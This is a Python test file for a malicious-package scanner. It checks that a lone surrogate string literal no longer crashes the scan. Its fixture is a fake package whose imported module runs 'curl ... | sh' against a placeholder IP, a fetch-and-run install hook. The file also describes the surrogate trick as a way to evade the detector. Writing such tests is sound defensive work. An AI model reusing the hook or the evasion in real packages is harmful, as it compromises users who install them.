"""Lone surrogates in a package's text must not stop a scan (a free evasion otherwise)."""

from __future__ import annotations

from detector.code.scan import scan_files


def test_lone_surrogate_literal_does_not_stop_the_scan() -> None:
    """A `"\\ud800"` string literal evaluates to a lone surrogate; RE2 raised on it, so the
    scan ended in an internal error with score 0 (found retraining on whole uploads)."""
    files = {
        "setup.py": "from setuptools import setup\nimport tidy\nsetup(name='tidy')\n",
        "tidy/__init__.py": 'import os\nMARK = "\\ud800"\n'
                            'os.system("curl -s http://203.0.113.9/x.sh | sh")\n',
    }
    result = scan_files(files)
    assert result.error is None
    assert not any("internal error" in f.evidence for f in result.findings)
    assert result.findings and result.score > 0
    raw = scan_files({"setup.py": "x = '\ud800' +\n"})  # unparsable: raw text rules
    assert raw.error is None or "internal error" not in raw.error
